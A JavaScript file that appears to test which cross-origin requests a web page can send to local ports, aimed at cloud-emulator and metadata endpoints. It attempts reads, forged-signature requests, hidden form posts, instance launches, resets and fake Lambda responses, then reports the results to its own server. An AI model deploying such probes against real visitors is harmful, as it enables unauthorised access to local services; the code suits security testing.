// What a page can send to a port of this machine, each way of it, and what of the answers it can read. `doors` are addresses;
// `own` says that the page believes to come from there itself. It tells the server of the page what it found.
"use strict";

const READS = [
  "/", "/_local/inventory", "/_ministack/health", "/?Action=DescribeInstances&Version=2016-11-15", "/latest/meta-data/",
  "/2018-06-01/runtime/invocation/next",
];
const LAUNCH = "Action=RunInstances&Version=2016-11-15&ImageId=" + image + "&InstanceType=t3.small&MinCount=1&MaxCount=1";
const WRITES = [
  ["/", LAUNCH], ["/?" + LAUNCH, ""], ["/_local/release-image", "{}"], ["/_local/reset", "{}"], ["/_ministack/reset", ""],
  ["/2018-06-01/runtime/init/error", "{}"], ["/2018-06-01/runtime/invocation/x/response", "{}"],
];
const FORM = "application/x-www-form-urlencoded";
const SIGNED = {
  "authorization": "AWS4-HMAC-SHA256 Credential=test/20261128/eu-west-1/ec2/aws4_request, SignedHeaders=host, Signature=0",
  "x-amz-target": "DynamoDB_20120810.ListTables",
};
const PATIENCE = 5000;

const within = (promise) =>
  Promise.race([promise, new Promise((done) => setTimeout(() => done("silent"), PATIENCE))]);

// What a page reads of an answer: all of it, nothing (`opaque`), or not even that there was one.
const fetched = (url, options) =>
  fetch(url, { cache: "no-store", credentials: "omit", ...options }).then(
    async (answer) => (answer.type.startsWith("opaque") ? "opaque" : `read ${answer.status} ${await answer.text()}`),
    () => "refused",
  );

const element = (name, url) =>
  new Promise((done) => {
    const made = document.createElement(name);
    made.onload = () => done("loaded");
    made.onerror = () => done("refused");
    made.src = url;
    document.body.append(made);
  });

// A page of one's own site is read through the frame; of any other, not even its address.
const framed = (name, load) =>
  new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = name;
    frame.onload = () => {
      let text = null;
      try {
        if (frame.contentWindow.location.href === "about:blank") return;
        text = frame.contentDocument && frame.contentDocument.body.innerText;
      } catch {}
      done(text === null ? "opaque" : `read ${text}`);
    };
    document.body.append(frame);
    load(frame);
  });

let frames = 0;
const submitted = (method, url, body) => {
  const name = `frame-${frames++}`;
  return framed(name, () => {
    const form = document.createElement("form");
    Object.assign(form, { method, action: url, target: name });
    for (const [key, value] of new URLSearchParams(body)) {
      form.append(Object.assign(document.createElement("input"), { type: "hidden", name: key, value }));
    }
    document.body.append(form);
    form.submit();
  });
};

const socket = (url) =>
  new Promise((done) => {
    const made = new WebSocket(url);
    made.onopen = () => done("opened");
    made.onerror = () => done("refused");
  });

const events = (url) =>
  new Promise((done) => {
    const made = new EventSource(url);
    made.onopen = () => done("opened");
    made.onerror = () => { made.close(); done("refused"); };
  });

async function tryDoor(door) {
  const base = `http://${door}`;
  const found = [];
  const note = async (way, promise) => found.push([door, way, await within(promise)]);
  for (const path of READS) {
    await Promise.all([
      note(`fetch GET ${path}`, fetched(base + path)),
      note(`fetch no-cors GET ${path}`, fetched(base + path, { mode: "no-cors" })),
      note(`fetch signed GET ${path}`, fetched(base + path, { headers: SIGNED })),
      note(`img ${path}`, element("img", base + path)),
      note(`script ${path}`, element("script", base + path)),
      note(`form GET ${path}`, submitted("get", base + path.split("?")[0], path.split("?")[1] || "")),
    ]);
  }
  for (const [path, body] of WRITES) {
    await Promise.all([
      note(`fetch POST ${path}`, fetched(base + path, { method: "POST", body, headers: { "content-type": FORM } })),
      note(`fetch no-cors POST ${path}`, fetched(base + path, { method: "POST", body, mode: "no-cors", headers: { "content-type": FORM } })),
      note(`fetch signed POST ${path}`, fetched(base + path, { method: "POST", body, headers: SIGNED })),
      note(`fetch PUT ${path}`, fetched(base + path, { method: "PUT", body })),
      note(`form POST ${path}`, submitted("post", base + path, body)),
      note(`beacon ${path}`, Promise.resolve(navigator.sendBeacon(base + path, body) ? "sent" : "refused")),
    ]);
  }
  await Promise.all([
    note("websocket", socket(`ws://${door}/`)),
    note("eventsource", events(base + "/_local/inventory")),
  ]);
  return found;
}

window.onload = async () => {
  const found = (await Promise.all(doors.map(tryDoor))).flat();
  await fetch("/report", { method: "POST", body: JSON.stringify(found) });
};
